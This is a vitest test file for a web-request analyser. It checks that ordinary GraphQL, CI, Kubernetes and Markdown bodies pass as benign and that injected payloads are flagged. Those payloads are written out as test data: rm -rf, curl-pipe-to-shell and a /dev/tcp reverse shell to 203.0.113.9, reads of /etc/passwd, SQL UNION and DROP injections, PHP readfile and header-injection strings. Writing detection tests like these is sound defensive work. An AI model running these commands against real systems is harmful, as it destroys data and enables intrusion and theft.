/** What is written around an attack does not excuse it; documents of honest work pass where nothing in them looks like one. */
import { expect, test } from 'vitest';
import { analyzeRequests, type HttpRequest } from '../../../analysis/web/index.ts';
import { expectProportion } from '../../support/growth.ts';

const posted = (type: string, body: string): HttpRequest => ({
  method: 'POST',
  target: '/api/x',
  headers: { 'Content-Type': type },
  body,
});
const inJson = (value: unknown) => posted('application/json', JSON.stringify(value));
const judged = (request: HttpRequest) => analyzeRequests([request], 'params');

test.each<[string, HttpRequest]>([
  [
    'gql vars',
    inJson({
      query:
        'query Hero($episode: Episode!, $withFriends: Boolean = false) {\n  hero(episode: $episode) {\n    name\n    friends @include(if: $withFriends) { name }\n  }\n}',
      variables: { episode: 'JEDI', withFriends: true },
    }),
  ],
  [
    'gql frag',
    inJson({
      query:
        'query GetUser($id: ID!) {\n  user(id: $id) { ...UserFields }\n}\n\nfragment UserFields on User {\n  id\n  name\n  email\n  posts(first: 10, orderBy: {field: CREATED_AT, direction: DESC}) { edges { node { id title } } }\n}',
      variables: { id: 'VXNlcjox' },
    }),
  ],
  [
    'gql comment',
    inJson({
      query:
        '# Fetch the current viewer\nquery {\n  viewer {\n    login # the handle\n    repositories(first: 5) { nodes { name } }\n  }\n}',
    }),
  ],
  [
    'gql mutation',
    inJson({
      query:
        'mutation AddComment($input: AddCommentInput!) {\n  addComment(input: $input) {\n    clientMutationId\n    commentEdge { node { id body } }\n  }\n}',
      variables: { input: { subjectId: 'MDU6SXNzdWUx', body: 'Thanks, merged. See the docs.' } },
    }),
  ],
  [
    'gql inline',
    inJson({
      query:
        '{ search(query: "language:ts stars:>100", type: REPOSITORY, first: 10) { edges { node { ... on Repository { nameWithOwner } } } } }',
    }),
  ],
  [
    'gql where',
    inJson({
      query:
        'query Users($limit: Int) { users(where: {age: {_gt: 18}, name: {_like: "A%"}}, limit: $limit, order_by: {id: asc}) { id name } }',
      variables: { limit: 10 },
    }),
  ],
  ['gql block', inJson({ query: 'mutation { createPost(body: """\nHello "world"\nIt\'s fine.\n""") { id } }' })],
  [
    'gql delete',
    inJson({ query: 'mutation DeleteUser($id: ID!) { deleteUser(id: $id) { ok } }', variables: { id: '7' } }),
  ],
  [
    'gql where prisma',
    inJson({
      query:
        'query { users(where: { OR: [{ name: { contains: "ann" } }, { email: { endsWith: "@x.example" } }] }) { id } }',
    }),
  ],
  [
    'gql hasura vars',
    inJson({
      query: 'query ($where: users_bool_exp) { users(where: $where) { id } }',
      variables: { where: { name: { _eq: 'ann' }, _or: [{ id: { _in: [1, 2] } }] } },
    }),
  ],
  [
    'gql raw',
    posted(
      'application/graphql',
      'query Q($id: ID!, $host: String) {\n  # one device\n  device(id: $id, host: $host) { id name ... on Server { ip } }\n}',
    ),
  ],
  [
    'gql introspect',
    inJson({
      query:
        'query IntrospectionQuery { __schema { queryType { name } types { ...FullType } } } fragment FullType on __Type { kind name fields(includeDeprecated: true) { name args { ...InputValue } } } fragment InputValue on __InputValue { name type { kind } defaultValue }',
    }),
  ],
  [
    'gql env',
    inJson({
      query:
        'query Env($env: String!, $path: String!, $user: ID, $session: ID) { secret(env: $env, path: $path, user: $user, session: $session) { key } }',
    }),
  ],
  [
    'gql sub',
    inJson({
      query:
        'subscription OnEvent($server: ID!, $request: String) { events(server: $server, request: $request) { id, type, at } }',
    }),
  ],
  [
    'gha ci',
    posted(
      'application/yaml',
      'name: CI\non:\n  push:\n    branches: [main]\n  pull_request:\njobs:\n  build:\n    runs-on: ubuntu-latest\n    strategy:\n      matrix:\n        node: [18, 20]\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with:\n          node-version: ${{ matrix.node }}\n      - run: npm ci\n      - run: npm test\n',
    ),
  ],
  [
    'gha env',
    posted(
      'text/yaml',
      "name: Deploy\non: workflow_dispatch\nenv:\n  IMAGE: ghcr.io/${{ github.repository }}:${{ github.sha }}\njobs:\n  deploy:\n    if: github.ref == 'refs/heads/main' && github.event_name != 'pull_request'\n    runs-on: ubuntu-latest\n    steps:\n      - name: Log in\n        run: echo \"${{ secrets.TOKEN }}\" | docker login -u ${{ github.actor }} --password-stdin\n      - name: Push\n        run: |\n          docker build -t $IMAGE .\n          docker push $IMAGE\n",
    ),
  ],
  [
    'gha json',
    inJson({
      message: 'add ci',
      content:
        'name: CI\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          python -m pip install -r requirements.txt\n          pytest -q\n',
    }),
  ],
  [
    'k8s deploy',
    posted(
      'application/yaml',
      'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\n  labels: {app: web}\nspec:\n  replicas: 3\n  selector:\n    matchLabels:\n      app: web\n  template:\n    metadata:\n      labels:\n        app: web\n    spec:\n      containers:\n        - name: web\n          image: nginx:1.27\n          ports:\n            - containerPort: 80\n          env:\n            - name: DB_HOST\n              value: "db.default.svc"\n',
    ),
  ],
  [
    'k8s multi',
    posted(
      'application/yaml',
      'apiVersion: v1\nkind: Service\nmetadata:\n  name: web\nspec:\n  selector:\n    app: web\n---\n# the ingress\napiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  name: web\nspec:\n  rules:\n    - host: web.example.com\n      http:\n        paths:\n          - path: /\n            pathType: Prefix\n',
    ),
  ],
  [
    'k8s cmd',
    posted(
      'application/yaml',
      'spec:\n  containers:\n    - name: job\n      image: busybox\n      command: ["sh", "-c", "echo done"]\n      args:\n        - --verbose\n',
    ),
  ],
  [
    'ansible',
    posted(
      'text/yaml',
      '- hosts: web\n  become: true\n  tasks:\n    - name: install nginx\n      apt:\n        name: nginx\n        state: present\n    - name: template\n      template:\n        src: nginx.conf.j2\n        dest: /opt/nginx/nginx.conf\n      when: ansible_os_family == "Debian" and not skip\n',
    ),
  ],
  [
    'openapi',
    posted(
      'application/yaml',
      'openapi: 3.0.0\ninfo:\n  title: Pets\n  version: "1"\npaths:\n  /pets/{id}:\n    get:\n      parameters:\n        - name: id\n          in: path\n          required: true\n          schema: {type: string}\n      responses:\n        "200":\n          description: a pet\n',
    ),
  ],
  [
    'jenkins json',
    inJson({
      script:
        "// build\npipeline {\n  agent any\n  stages {\n    stage('Build') { when { branch 'main' } steps { echo \"Building ${params.NAME}\" } }\n  }\n}",
    }),
  ],
  [
    'jenkins xml',
    posted(
      'application/xml',
      '<?xml version="1.0"?><flow-definition><definition class="org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition"><script>pipeline { agent any; stages { stage(\'Build\') { steps { echo \'hi\' } } } }</script></definition></flow-definition>',
    ),
  ],
  [
    'groovy gradle',
    posted(
      'text/plain',
      "plugins {\n  id 'java'\n}\nrepositories { mavenCentral() }\ndependencies {\n  implementation 'com.google.guava:guava:33.0.0-jre'\n  testImplementation(platform('org.junit:junit-bom:5.10.0'))\n}\ntest { useJUnitPlatform() }\n",
    ),
  ],
  [
    'md html',
    posted(
      'text/markdown',
      'Press <kbd>Ctrl</kbd>+<kbd>C</kbd> to copy.\n\n- [x] done\n- [ ] open\n\n1. one\n2. two\n\n**Bold** and *italics*.\n',
    ),
  ],
  [
    'gha cond',
    posted(
      'application/yaml',
      "on:\n  schedule:\n    - cron: '0 3 * * 1'\njobs:\n  stale:\n    if: ${{ github.event_name == 'schedule' || contains(github.event.head_commit.message, '[stale]') }}\n    runs-on: ubuntu-latest\n    permissions: {issues: write}\n    steps:\n      - uses: actions/stale@v9\n        with:\n          stale-issue-message: 'This issue is stale because it has been open 30 days with no activity.'\n",
    ),
  ],
  [
    'helm tpl',
    posted(
      'application/yaml',
      'metadata:\n  name: {{ include "app.fullname" . }}\n  labels:\n    {{- include "app.labels" . | nindent 4 }}\nspec:\n  replicas: {{ .Values.replicaCount }}\n',
    ),
  ],
  [
    'gql get',
    inJson({
      query:
        'query($get: Boolean!, $files: [FileInput!]!, $cookie: String = "x") { a(files: $files, get: $get) { id } }',
    }),
  ],
  [
    'gql or',
    inJson({
      query: '{ products(filter: {or: [{price: {lt: 10}}, {tag: {in: ["a", "b"]}}]}, sort: "price desc") { id } }',
    }),
  ],
  [
    'sql doc5',
    posted(
      'text/plain',
      "In the report we GROUP BY region and ORDER BY total, which is what the team asked for. It's the same as last week.",
    ),
  ],
])('%s is benign', (_name, request) => {
  expect(judged(request)).toMatchObject({ verdict: 'benign' });
});

test.each<[string, 'malicious' | 'suspicious', string]>([
  ['a pipe behind the rule of a table', 'malicious', '|---|\nx |id'],
  ['a pipe in a row of a table', 'malicious', '|---|\n|x |id'],
  ['a command before two fences', 'malicious', 'x;rm -rf .\n```\n\n```\n'],
  ['a span behind fences', 'malicious', 'see\n```\n\n```\n`pip install evil` '],
  ['a command in a workflow', 'malicious', 'jobs:\n a:\n  run: x\n  rm -rf .'],
  ['a second command in a workflow', 'malicious', 'jobs:\n a:\n  run: x;rm -rf .'],
  ['a command behind a pipeline', 'malicious', 'pipeline{stage(1)}; rm -rf . ; }'],
  ['a host behind keys', 'suspicious', 'a: b\r\nHost: evil.example\r\nX-Forwarded-Host: x'],
  ['a host behind three keys', 'suspicious', 'a: b\r\nc: d\r\nHost: evil.example\r\nX-Forwarded-Host: x'],
  ['a redirection behind keys', 'suspicious', 'a: b\r\nc: d\r\nLocation:     https://evil'],
  ['a refresh behind keys', 'suspicious', 'a: b\r\nc: d\r\nRefresh: ;url=https://evil'],
  ['an inner redirection behind keys', 'suspicious', 'a: b\r\nc: d\r\nX-Accel-Redirect: /internal'],
  ['commands of SMTP behind keys', 'suspicious', 'a: b\nc: d\n rcpt to:<v@x>\n data'],
  [
    'a query whose aliases are words of prose',
    'suspicious',
    'price desc nulls last, (select pg_sleep(5) from users i, users you, users we, users they)',
  ],
  [
    'a union behind words of prose',
    'suspicious',
    'users i, users you, users we, users they union select password from users',
  ],
  ['a file of the system before comments of YAML', 'malicious', ' /var/log/apache2/access.log\n #\n #'],
  ['a text file that PHP reads', 'malicious', ";readfile('secret.txt');"],
  ['a text file that PHP reads, quoted twice', 'malicious', '1;readfile("flag.txt");//'],
  ['a query behind USE', 'malicious', 'use select password from users'],
  ['a variable of PHP behind a colon', 'malicious', 'a: $env, '],
  ['a constructor of constructors', 'malicious', '{constructor:constructor}'],
  ['a variable of GraphQL where none is', 'malicious', 'query($server: ID!) { a(b: $server) { id } }'],
])('%s is %s wherever it stands', (_name, verdict, text) => {
  const query = encodeURIComponent(text);
  const requests = [
    inJson({ text }),
    posted('text/plain', text),
    posted('application/yaml', text),
    posted('text/markdown', text),
    posted('application/x-www-form-urlencoded', `q=${query}`),
    { method: 'GET', target: `/?q=${query}`, headers: {} },
  ];
  const levels = ['suspicious', 'malicious'];
  for (const request of requests)
    expect(levels.indexOf(judged(request).verdict)).toBeGreaterThanOrEqual(levels.indexOf(verdict));
});

test('the pairs of a body of lines are judged as a form', () => {
  for (const type of ['text/plain', 'application/yaml'])
    expect(judged(posted(type, 'a: 1\nb: 2\nc: &x=;+id'))).toMatchObject({ verdict: 'malicious' });
});

test.each([
  ['PHP behind the document', '{ a(x: $server) } $server'],
  ['a brace too few', '{ a(x: $server) { id }'],
  ['a brace too many', '{ a(x: $server) { id } }}'],
  ['a superglobal', '{ a(x: $_SERVER) { id } }'],
  ['all globals', '{ a(x: $GLOBALS) { id } }'],
  ['a variable in a string', '{ a(x: "$server") { id } }'],
  ['a variable in a comment', '{ a { id } } # $server'],
  ['a variable where a name belongs', '{ a($server: 1) { id } }'],
  ['an argument of another directive', '{ a @include(file: $b) }'],
  ['an include of a string', '{ a @include(if: "x") }'],
  ['an include in a string', '{ a(x: "include(\'x\')") @include(if: $b) }'],
  ['a call', '{ a @system(if: $b) }'],
  ['a fragment without its end', 'fragment a on B { c(d: $env) '],
  ['too deep a list', `{ a(x: ${'['.repeat(70)}$env${']'.repeat(70)}) }`],
])('%s is found in a query of GraphQL', (_name, query) => {
  expect(judged(inJson({ query })).verdict).not.toBe('benign');
});

test.each([
  'query Q($server: [ID!]! = ["x"], $get: Int = -1.5e3) @a(b: {c: $get, d: []}) { x: y(z: $server) @include(if: true) { ...F @include(if: $get) } }',
  'fragment F on T @a { ... on U @include(if: $files) { b } ... @include(if: false) { c } ...G }',
  'subscription ($env: String = """a "b" c""") { a(b: $env, c: ENUM) }',
])('%s is honest GraphQL', (query) => {
  expect(judged(inJson({ query }))).toMatchObject({ verdict: 'benign' });
  expect(judged(inJson([{ query }]))).toMatchObject({ verdict: 'benign' });
  expect(judged(inJson({ text: query })).verdict).not.toBe('benign');
});

const PIPELINE = (step: string) =>
  `pipeline {\n  agent any\n  stages {\n    stage('Build') {\n      steps {\n        ${step}\n      }\n    }\n  }\n}\n`;
const MARKDOWN = (code: string) =>
  `# Notes\n\nThis is what you have to run in the shell:\n\n\`\`\`sh\n${code}\n\`\`\`\n`;
const YAML = (line: string) => `name: x\nkind: y\nspec: z\n${line}\n`;
test.each<[string, string]>([
  ['GraphQL with a superglobal', '{ a(x: $_SERVER["HTTP_X"]) { id } }'],
  ['an include of PHP', '{ a } @include($_GET["f"])'],
  ['an include behind a directive', '{ a @include(if: $b) } include("/tmp/x.php")'],
  ['a file of PHP that is read', "readfile('config.php')"],
  ['a download in a pipeline', PIPELINE("sh 'curl http://203.0.113.9/x | sh'")],
  ['a shell in a pipeline', PIPELINE("sh 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'")],
  ['an absolute path in a pipeline', PIPELINE("sh 'rm -rf /'")],
  ['a query in a pipeline', PIPELINE("sh 'x' UNION SELECT name FROM users-- '")],
  ['a command in Markdown', MARKDOWN('rm -rf /')],
  ['a download in Markdown', MARKDOWN('wget -qO- http://203.0.113.9/x | sh')],
  ['a span that runs something', 'This is the one that you have to read: `cat /etc/passwd` and more'],
  ['a span with a download', 'This is the one that you have to read: `curl 203.0.113.9` and more'],
  ['a query behind prose', "this is the name that you want ' UNION SELECT name FROM users-- "],
  ['a query that closes a parenthesis', 'this is the name that you want) UNION SELECT name FROM users'],
  ['a second statement behind prose', 'this is the name that you want; DROP TABLE users'],
  ['a query behind a number', '1 is the name that you want in the list UNION SELECT name FROM users'],
  ['a query behind NULL', 'null union select name, the, is, that, this, you from users'],
  ['a comment like a glob', "admin'/*.js"],
  ['a query in comments like globs', "'union/**/select/**/name/**/from/**/users/*'"],
  ['a comment like an argument', "admin' -- --x"],
  ['a comment like a heading', "admin' or 1=1\n# the rest"],
  ['a header in YAML', YAML('Set-Cookie: session=1')],
  ['a redirection in YAML', YAML('Location: https://evil.example/')],
  ['a recipient in YAML', YAML('Bcc: anna@evil.example')],
  ['a system file in YAML', YAML('path: /etc/passwd')],
])('%s is found', (_name, text) => {
  expect(judged(inJson({ text })).verdict).not.toBe('benign');
  expect(judged(posted('text/plain', text)).verdict).not.toBe('benign');
});

test.each(['a: b\n', 'stage (', '| --- ', '`a` ', '```\n', '\n', 'a; ', 'npm test -- '])(
  'documents of %j cost time in proportion to their length (ATK-A9)',
  async (unit) => {
    await expectProportion(unit, 4_096, (text) => judged(inJson({ text: `pipeline { ${text} the is you it }` })));
  },
);

test.each(['{', '{ a ', '$server ', '"', '""" ', '[', '@a ', '# '])(
  'GraphQL of %j costs time in proportion to its length (ATK-A9)',
  async (unit) => {
    await expectProportion(unit, 4_096, (text) =>
      judged(inJson({ query: `query($env: ID) { a(b: $env) ${text} } }` })),
    );
  },
);
